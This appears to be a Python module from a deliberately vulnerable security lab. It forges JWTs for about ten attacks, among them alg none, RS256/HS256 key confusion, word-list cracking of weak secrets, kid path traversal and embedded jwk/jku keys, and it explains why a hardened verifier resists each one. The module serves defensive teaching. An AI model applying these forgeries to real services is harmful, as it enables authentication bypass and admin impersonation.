"""DELIBERATELY VULNERABLE demos: the JWT attacks, one small forger each. Development only.

From the attacker's own tokens, each forger makes one token for the naive verifier
(vulnerable/naive_jwt.py) and one for the real verifier (blueprints/jwt/tokens.py); the bench
(vulnerable/jwt_bench.py) hands them to the page (static/js/jwt-attacks.js), which sends each
to its server and shows one fall and the other hold.

What it never does (LAB-3): reach the real app's state. It edits only tokens the attacker
brings and signs only with the naive server's keys or the attacker's own: never with, for or
into anything of the real JWT demo.
"""

import hashlib
import hmac
import json
import time
from dataclasses import dataclass
from pathlib import Path

from cryptography.hazmat.primitives.asymmetric import rsa
from flask import current_app

from .naive_jwt import PUBLIC_PEM, WEAK_SECRET, b64, encode, issue, unb64

WORDLIST = Path(__file__).parent / "data" / "jwt-wordlist.txt"


# ### The attacker's tools


def parts(token):
    header_b64, payload_b64, signature_b64 = token.split(".")
    return json.loads(unb64(header_b64)), json.loads(unb64(payload_b64)), signature_b64


def crack(token, words):
    """Try each word as the HMAC secret of an HS256 token: (word or None, words tried, ms)."""
    started = time.perf_counter()
    header_b64, payload_b64, signature_b64 = token.split(".")
    signing_input = f"{header_b64}.{payload_b64}".encode()
    signature = unb64(signature_b64)
    for tried, word in enumerate(words, start=1):
        if hmac.compare_digest(hmac.new(word.encode(), signing_input, hashlib.sha256).digest(), signature):
            return word, tried, (time.perf_counter() - started) * 1000
    return None, len(words), (time.perf_counter() - started) * 1000


def as_admin(payload):
    return {**payload, "role": "admin"}


@dataclass(frozen=True)
class Brought:
    """What a forger starts from: the naive server's token and the attacker's real ones, read."""

    naive_token: str
    real_token: str
    real_refresh: str | None
    real_public: tuple | None
    foreign: str | None
    naive: tuple  # (header, payload, signature) of naive_token
    real: tuple  # (header, payload, signature) of real_token


# ### One forger per attack
#
# Each returns (token for the naive verifier, token for the real one, notes).

FORGERS = {}


def forger(attack):
    def register(function):
        FORGERS[attack] = function
        return function

    return register


@forger("alg-none")
def forge_alg_none(brought):
    none = {"alg": "none", "typ": "JWT"}
    return encode(none, as_admin(brought.naive[1])), encode(none, as_admin(brought.real[1])), {}


@forger("stripped-signature")
def forge_stripped_signature(brought):
    (nh, np_, _), (rh, rp, _) = brought.naive, brought.real
    return encode(nh, as_admin(np_)), encode(rh, as_admin(rp)), {}


@forger("payload-edited")
def forge_payload_edited(brought):
    def keep_signature(header, payload, signature):
        return f"{b64(json.dumps(header).encode())}.{b64(json.dumps(as_admin(payload)).encode())}.{signature}"

    return keep_signature(*brought.naive), keep_signature(*brought.real), {}


@forger("alg-confusion")
def forge_alg_confusion(brought):
    # The public key is public: sign HS256 with its PEM bytes as the HMAC secret.
    (_, np_, _), (rh, rp, _) = brought.naive, brought.real
    naive = encode({"alg": "HS256", "typ": "JWT", "kid": "naive-rs"}, as_admin(np_), PUBLIC_PEM)
    kid, pem = brought.real_public or (rh.get("kid"), PUBLIC_PEM)
    real = encode({"alg": "HS256", "typ": "JWT", "kid": kid}, as_admin(rp), pem)
    return naive, real, {}


@forger("weak-secret")
def forge_weak_secret(brought):
    (nh, np_, _), (rh, rp, _) = brought.naive, brought.real
    words = WORDLIST.read_text().splitlines()
    word, tried, ms = crack(brought.naive_token, words)
    real_word, real_tried, real_ms = crack(brought.real_token, words)
    notes = {
        "naive": f"cracked: the secret is {word!r} ({tried} guesses, {ms:.1f} ms)"
        if word
        else f"not cracked ({tried} guesses)",
        "real": f"not cracked: {real_tried} guesses in {real_ms:.1f} ms; the real key is 256 random bits "
        "(2^256 guesses)"
        if not real_word
        else f"cracked?! {real_word!r}",
    }
    naive = encode(nh, as_admin(np_), (word or "").encode())
    real = encode(rh, as_admin(rp), (real_word or "secret").encode())
    return naive, real, notes


@forger("kid-trick")
def forge_kid_trick(brought):
    # A kid that climbs out of the naive key folder to /dev/null: its empty content is the key.
    header = {"alg": "HS256", "typ": "JWT", "kid": "../../../../dev/null"}
    return encode(header, as_admin(brought.naive[1]), b""), encode(header, as_admin(brought.real[1]), b""), {}


@forger("jwk-header")
def forge_jwk_header(brought):
    # The attacker's own key pair; the public half rides in the header for the verifier to use.
    (_, np_, _), (rh, rp, _) = brought.naive, brought.real
    mine = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    numbers = mine.public_key().public_numbers()
    jwk = {"kty": "RSA", "e": b64(numbers.e.to_bytes(3, "big")), "n": b64(numbers.n.to_bytes(256, "big"))}
    jku = current_app.config["ATTACKER_URL"] + "/jwks.json"
    header = {"alg": "RS256", "typ": "JWT", "jwk": jwk, "jku": jku}
    return encode(header, as_admin(np_), mine), encode({**header, "kid": rh.get("kid")}, as_admin(rp), mine), {}


@forger("expired")
def forge_expired(brought):
    # A token captured earlier, its exp now past: the naive server signed it, and the real
    # one signed the attacker's own (which the attacker let expire before bringing it).
    nh, np_, _ = brought.naive
    stale = {**np_, "iat": int(time.time()) - 3600, "exp": int(time.time()) - 2700}
    return encode(nh, stale, WEAK_SECRET.encode()), brought.real_token, {}


@forger("refresh-as-access")
def forge_refresh_as_access(brought):
    return issue(brought.naive[1]["sub"], "refresh"), brought.real_refresh, {}


@forger("foreign-token")
def forge_foreign_token(brought):
    return brought.foreign, brought.foreign, {}


def forge(attack, naive_token, real_token, real_refresh, real_public=None, foreign=None):
    """(token for the naive verifier, token for the real one, notes) for one attack."""
    brought = Brought(
        naive_token, real_token, real_refresh, real_public, foreign, parts(naive_token), parts(real_token)
    )
    return FORGERS[attack](brought)  # an unknown attack is a KeyError


# Each attack, and why the real verifier holds, in one sentence for the bench.
EXPLAIN = {
    "alg-none": "The token says it needs no signature; the real verifier takes the algorithm from its key, never "
    "from the token.",
    "stripped-signature": "An empty signature is not 'nothing to check': the real verifier always checks one.",
    "payload-edited": "Both hold: any verifier that checks the signature at all catches an edit. The naive one "
    "falls only when the signature is removed or forged (the rows above and below).",
    "alg-confusion": "The RSA public key is public; used as an HMAC secret it signs anything. The real keyring "
    "binds each key to one algorithm (rotate to RS256 to see that refusal; in HS256 mode the forged "
    "signature simply fails).",
    "weak-secret": "A dictionary word falls to a word list in milliseconds; 256 random bits do not fall at all.",
    "kid-trick": "A kid that climbs out of the key folder (../ to /dev/null) gave the naive verifier an empty key; "
    "the real one refuses any kid it does not hold.",
    "jwk-header": "The attacker's own key rode in the header; the real verifier never uses or fetches a key the "
    "token offers (jwk, jku, x5u, x5c).",
    "expired": "The naive verifier never reads exp; the real one refuses a token one second late.",
    "refresh-as-access": "The naive verifier ignores the token's type; the real one keeps the kinds apart.",
    "foreign-token": "Another issuer's token (the provider's id_token) names a key, issuer and audience that are "
    "not this API's.",
}
ATTACKS = tuple(EXPLAIN)  # in the bench's order
